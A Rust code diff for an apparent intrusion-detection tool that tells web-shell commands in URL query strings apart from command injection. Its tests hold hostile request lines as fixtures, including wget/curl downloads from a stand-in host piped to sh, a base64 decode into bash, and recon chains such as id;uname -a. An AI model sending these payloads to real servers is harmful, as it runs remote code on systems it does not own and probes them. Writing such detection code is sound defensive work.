@@ -85,24 +85,61 @@ fn query_values(target: &[u8]) -> impl Iterator<Item = Vec<u8>> + '_ {
 /// separator (`127.0.0.1;wget ...|sh`) is an injection into the application's own command
 /// ([`request_injection`]), not a web shell.
 pub fn request_command(target: &[u8], iocs: &Indicators) -> Option<Vec<u8>> {
-    query_values(target)
-        .filter(|v| !injection_shaped(v, iocs))
-        .find(|v| {
-            let line = crate::parse::shell_line::analyze(v);
-            let shell = line.commands.iter().any(|c| {
-                std::str::from_utf8(c).is_ok_and(|c| iocs.contains(Kind::ShellOrDownloader, c))
-            });
-            // A shell or downloader given an option or a path: a command, not a search for "bash
-            // tutorial" nor "bash scripting; python | perl" (words in a sequence are still words).
-            let invoked = crate::parse::words(v)
+    query_values(target).find(|v| !data_first(v, iocs) && reads_as_command(v, iocs))
+}
+
+/// Whether a value (not [`data_first`]) is a web shell's command: a download, a decode into a shell, a
+/// bash socket, a shell or downloader given an option or a path, or a command line (`ls -la`, `id`)
+/// followed by commands that name [`RECON_MIN_ITEMS`] discovery items (`ls -la;id;uname -a`).
+fn reads_as_command(v: &[u8], iocs: &Indicators) -> bool {
+    let line = crate::parse::shell_line::analyze(v);
+    let shell = line
+        .commands
+        .iter()
+        .any(|c| std::str::from_utf8(c).is_ok_and(|c| iocs.contains(Kind::ShellOrDownloader, c)));
+    // A shell or downloader given an option or a path: a command, not a search for "bash
+    // tutorial" nor "bash scripting; python | perl" (words in a sequence are still words).
+    let invoked = crate::parse::words(v)
+        .skip(1)
+        .any(|w| w.starts_with(b"-") || w.contains(&b'/'));
+    let p = pieces(v);
+    // `ls -la`, `id`: a program with only options and paths; "who is last" is words.
+    let command_line = p.first().is_some_and(|first| {
+        !first.is_empty()
+            && crate::parse::words(first)
                 .skip(1)
-                .any(|w| w.starts_with(b"-") || w.contains(&b'/'));
-            line.download
-                || line.download_to_shell
-                || line.decode_to_shell
-                || line.dev_tcp
-                || (shell && invoked)
-        })
+                .all(|w| w.starts_with(b"-") || w.contains(&b'/'))
+    });
+    line.download
+        || line.download_to_shell
+        || line.decode_to_shell
+        || line.dev_tcp
+        || (shell && invoked)
+        || (p.len() > 1 && command_line && recon_items(&p, iocs).len() >= RECON_MIN_ITEMS)
+}
+
+/// The distinct discovery items pieces of a value name, in order: a piece's program when it is a
+/// `recon_command`, and every word that is a `recon_file` (`id`, `uname`, `/etc/passwd`).
+fn recon_items(pieces: &[&[u8]], iocs: &Indicators) -> Vec<String> {
+    let mut recon: Vec<String> = Vec::new();
+    for piece in pieces {
+        let mut words = crate::parse::words(piece).peekable();
+        let program = words
+            .peek()
+            .map(|first| String::from_utf8_lossy(crate::parse::basename(first)).into_owned());
+        for w in words {
+            let w = String::from_utf8_lossy(w).into_owned();
+            if iocs.contains(Kind::ReconFile, &w) && !recon.contains(&w) {
+                recon.push(w);
+            }
+        }
+        if let Some(name) = program {
+            if iocs.contains(Kind::ReconCommand, &name) && !recon.contains(&name) {
+                recon.push(name);
+            }
+        }
+    }
+    recon
 }
 
 /// Distinct discovery items (`recon_command` programs, `recon_file` paths) that make a command text ask
@@ -160,15 +197,30 @@ fn pieces(value: &[u8]) -> Vec<&[u8]> {
 }
 
 /// Whether a value is data followed by commands: it holds a separator, and what comes before the first
-/// is no program of [`is_command_word`] (an address, a file name, a number, or nothing at all).
-fn injection_shaped(value: &[u8], iocs: &Indicators) -> bool {
+/// is data an application passes on: one word (an address, a number, a file name, an e-mail, a path)
+/// that is no program of [`is_command_word`]. A command line before it (`cd /tmp`, `echo <b64>`,
+/// `ls -la`: a program, or words with blanks between) is a web shell's command ([`request_command`]).
+fn data_first(value: &[u8], iocs: &Indicators) -> bool {
     let p = pieces(value);
     p.len() > 1
         && p.first().is_some_and(|first| {
-            crate::parse::words(first)
-                .next()
-                .is_none_or(|w| !is_command_word(w, iocs))
+            let mut words = crate::parse::words(first);
+            match (words.next(), words.next()) {
+                (Some(w), None) => !is_command_word(w, iocs),
+                _ => false,
+            }
         })
+}
+
+/// Whether a value is injection-shaped ([`request_injection`]): [`data_first`], or commands after a
+/// leading separator (`;id;hostname`, appended to the application's own text) that are no web shell's
+/// command ([`reads_as_command`]: `;curl ...|sh` is one).
+fn injection_shaped(value: &[u8], iocs: &Indicators) -> bool {
+    let p = pieces(value);
+    data_first(value, iocs)
+        || (p.len() > 1
+            && p.first().is_some_and(|f| f.is_empty())
+            && !reads_as_command(value, iocs))
 }
 
 /// The first query value of a request that injects shell commands into what the application runs with
@@ -183,26 +235,19 @@ pub fn request_injection(target: &[u8], iocs: &Indicators) -> Option<Injection> 
         if !injection_shaped(&value, iocs) {
             return None;
         }
-        let mut recon: Vec<String> = Vec::new();
+        let commands: Vec<&[u8]> = pieces(&value).into_iter().skip(1).collect();
+        let mut recon = recon_items(&commands, iocs);
         let mut moves: Vec<String> = Vec::new();
-        for piece in pieces(&value).into_iter().skip(1) {
+        for piece in commands {
             let mut words = crate::parse::words(piece);
             let Some(first) = words.next() else {
                 continue;
             };
             let rest: Vec<&[u8]> = words.collect();
             let name = String::from_utf8_lossy(crate::parse::basename(first)).into_owned();
-            for w in std::iter::once(first).chain(rest.iter().copied()) {
-                let w = String::from_utf8_lossy(w).into_owned();
-                if iocs.contains(Kind::ReconFile, &w) && !recon.contains(&w) {
-                    recon.push(w);
-                }
-            }
-            if iocs.contains(Kind::ReconCommand, &name) {
-                if !recon.contains(&name) {
-                    recon.push(name);
-                }
-            } else if is_command_word(first, iocs)
+            // Discovery programs are counted as recon items above.
+            if !iocs.contains(Kind::ReconCommand, &name)
+                && is_command_word(first, iocs)
                 && rest
                     .iter()
                     .any(|w| w.starts_with(b"-") || w.contains(&b'/'))
@@ -597,6 +642,26 @@ admin:x:1000:1000:Admin:/home/admin:/bin/bash\n";
             &iocs
         )
         .is_none());
+        // Review of train 2, item 6: a web shell's command line before a separator, or a leading
+        // separator before a download, is a web shell's command, not an injection.
+        for shell in [
+            &b"/up/shell.php?c=cd+/tmp%3Bwget+http://x.example/a%3Bchmod+%2Bx+a%3B./a"[..],
+            b"/up/shell.php?c=echo+ZWNobyBoaQ%3D%3D%7Cbase64+-d%7Cbash",
+            b"/up/shell.php?c=ls+-la%3Bid%3Buname+-a",
+            b"/up/shell.php?c=%3Bcurl+-s+http://x.example/a%7Csh",
+            b"/up/shell.php?c=id%3Buname+-a",
+        ] {
+            assert!(
+                super::request_command(shell, &iocs).is_some(),
+                "{}",
+                String::from_utf8_lossy(shell)
+            );
+            assert!(
+                super::request_injection(shell, &iocs).is_none(),
+                "{}",
+                String::from_utf8_lossy(shell)
+            );
+        }
         // Data, then commands: an injection into the page's own command, not a web shell.
         assert!(super::request_command(
             b"/status.php?host=127.0.0.1%3Bwget+http://x.example/a%7Csh",
